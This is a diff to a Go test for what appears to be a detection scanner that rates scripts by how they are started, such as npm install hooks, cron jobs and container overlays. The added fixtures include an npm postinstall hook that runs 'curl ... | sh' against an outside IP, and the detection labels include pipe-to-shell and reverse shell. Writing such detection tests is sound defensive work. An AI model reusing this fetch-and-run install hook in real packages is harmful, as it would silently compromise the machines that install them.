@@ -26,6 +26,12 @@ func TestStarted(t *testing.T) {
 		"usr/bin/packaged":                []byte(bad),
 		"var/lib/dpkg/status":             []byte("Package: packaged\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"),
 		"var/lib/dpkg/info/packaged.list": []byte("/.\n/usr\n/usr/bin\n/usr/bin/packaged\n"),
+		// What runs where a package is installed is judged as that, unless a job starts it, too.
+		"srv/x/node_modules/a/package.json": []byte(`{"scripts": {"postinstall": "node install.js"}}`),
+		"srv/x/node_modules/a/install.js":   []byte("const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.77/i.sh | sh');\n"),
+		"srv/x/node_modules/b/package.json": []byte(`{"scripts": {"preinstall": "sh both.sh"}}`),
+		"srv/x/node_modules/b/both.sh":      []byte(bad),
+		"etc/cron.d/both":                   []byte("@daily root sh /srv/x/node_modules/b/both.sh\n"),
 		// In a container its own programs are meant, not those of the server.
 		"var/lib/docker/overlay2/ab/diff/etc/cron.d/a":       []byte("@daily root /usr/local/bin/job\n"),
 		"var/lib/docker/overlay2/ab/diff/usr/local/bin/job":  []byte(bad),
@@ -55,6 +61,7 @@ func TestStarted(t *testing.T) {
 	}
 	for p, want := range map[string]string{
 		"/opt/cache/warm": "high act_pipe_to_shell", "/opt/cache/unused": "", "/srv/a/lib.sh": "high act_fetch_exec", "/usr/local/bin/tidy-up": "high act_reverse_shell",
+		"/srv/x/node_modules/a/install.js": "medium act_pipe_to_shell", "/srv/x/node_modules/b/both.sh": "high act_pipe_to_shell",
 		"/opt/agent.py": "high act_pipe_to_shell", "/usr/bin/packaged": "", "/opt/backup.sh": "", "/opt/report.py": "", "/opt/acme/acme.sh": "", "/opt/loop": "",
 		"/var/lib/docker/overlay2/ab/diff/usr/local/bin/job": "high act_pipe_to_shell", "/var/lib/docker/overlay2/ab/diff/usr/local/bin/idle": "", "/usr/local/bin/idle": "",
 	} {
